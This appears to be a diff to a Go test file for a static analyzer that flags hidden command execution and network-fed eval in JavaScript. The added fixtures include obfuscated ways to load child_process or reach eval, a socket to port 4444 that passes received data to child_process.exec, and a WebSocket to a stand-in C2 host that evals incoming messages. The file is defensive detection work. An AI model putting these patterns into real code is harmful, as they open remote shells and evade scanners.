@@ -47,6 +47,8 @@ func TestFolding(t *testing.T) {
 		{"atob", `require(atob('Y2hpbGRfcHJvY2Vzcw=='))`, "child_process"},
 		{"hex", `require(Buffer.from('6368696c645f70726f63657373','hex').toString('utf8'))`, "child_process"},
 		{"escapes", `require("\x63hild_\u0070rocess")`, "child_process"},
+		{"json_escapes", `require(JSON.parse('"\\u0063hild_\\u0070rocess"'))`, "child_process"},
+		{"radix36", `require((20972641).toString(36) + "_" + 56093034988..toString(36))`, "child_process"},
 		{"charcodes", `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115))`, "child_process"},
 		{"join", `require(['child','process'].join('_'))`, "child_process"},
 		{"reverse", `require('ssecorp_dlihc'.split('').reverse().join(''))`, "child_process"},
@@ -350,6 +352,9 @@ func TestCallsInDisguise(t *testing.T) {
 		"String.raw":             {"const c = String.raw`id`; require('child_process').execSync(c)", "child_process.execSync", "id"},
 		"getBuiltinModule":       {`process.getBuiltinModule("node:child_process").execSync("id")`, "child_process.execSync", "id"},
 		"getBuiltinModule bound": {`const { execSync: run } = globalThis.process.getBuiltinModule("child_process"); run("id")`, "child_process.execSync", "id"},
+		"Reflect.get global":     {`const run = Reflect.get(globalThis, "ev" + "al"); run("1")`, "eval", "1"},
+		"descriptor value":       {`const run = Object.getOwnPropertyDescriptor(globalThis, "eval").value; run("1")`, "eval", "1"},
+		"descriptor destructure": {`const { value: run } = Reflect.getOwnPropertyDescriptor(global, "eval"); run("1")`, "eval", "1"},
 		"Bun shell":              {"await Bun.$`id`", "Bun.$", "id"},
 		"zx shell":               {"import { $ } from \"zx\"; await $`id`", "zx.$", "id"},
 	} {
@@ -821,6 +826,29 @@ func TestArgShape(t *testing.T) {
 	}
 }
 
+// TestRequestHelper: a function handing its first parameter to a request
+// as the URL is a request helper; its calls with a constant URL are
+// senders, its calls with anything else, and calls of other functions,
+// are not.
+func TestRequestHelper(t *testing.T) {
+	src := `const https = require("https");
+function req(url, opts, body) { return new Promise(r => { const q = https.request(url, opts, r); q.end(body) }) }
+function log(msg) { console.log(msg) }
+req("https://c.example.invalid/i", { method: "POST" }, data);
+req(target, {}, data);
+log("https://docs.example.invalid/x");`
+	f := Analyze("a.js", []byte(src), DefaultLimits())
+	got := map[int]bool{}
+	for _, c := range f.Calls {
+		if c.Callee == "req" || c.Callee == "log" {
+			got[c.Pos.Line] = c.Sender
+		}
+	}
+	if !got[4] || got[5] || got[6] {
+		t.Errorf("senders by line %v, want only line 4's", got)
+	}
+}
+
 func TestNetworkDataFlow(t *testing.T) {
 	src := `const https = require("https"), vm = require("vm");
 let keep = "";
@@ -833,18 +861,22 @@ fetch(u).then(r => r.json()).then(({ code }) => new Function(code)());
 const body = await (await fetch(u)).text();
 const parsed = JSON.parse(body);
 eval(parsed.script);
-let local = ""; process.stdin.on("data", c => local += c); eval(local);`
+let local = ""; process.stdin.on("data", c => local += c); eval(local);
+const sock = require("net").connect(4444, "203.0.113.5"); sock.on("data", d => require("child_process").exec(d.toString()));
+const ws = new WebSocket("wss://c2.example/a"); ws.onmessage = e => eval(e.data);
+ws.addEventListener("message", ({ data }) => eval(JSON.parse(data).js));`
 	f := Analyze("x.mjs", []byte(src), DefaultLimits())
 	got := map[string]string{}
 	for _, c := range f.Calls {
 		switch c.Callee {
-		case "vm.runInThisContext", "Function", "eval":
+		case "vm.runInThisContext", "Function", "eval", "child_process.exec":
 			if got[c.Callee] == "" || c.NetArg != "" {
 				got[c.Callee+"@"+itoa(c.Pos.Line)] = c.NetArg
 			}
 		}
 	}
-	want := map[string]string{"vm.runInThisContext@6": "s", "Function@8": "code", "eval@11": "parsed", "eval@12": ""}
+	want := map[string]string{"vm.runInThisContext@6": "s", "Function@8": "code", "eval@11": "parsed", "eval@12": "",
+		"child_process.exec@13": "d", "eval@14": "e", "eval@15": "data"}
 	for k, v := range want {
 		if got[k] != v {
 			t.Errorf("%s: NetArg %q, want %q (all %v)", k, got[k], v, got)
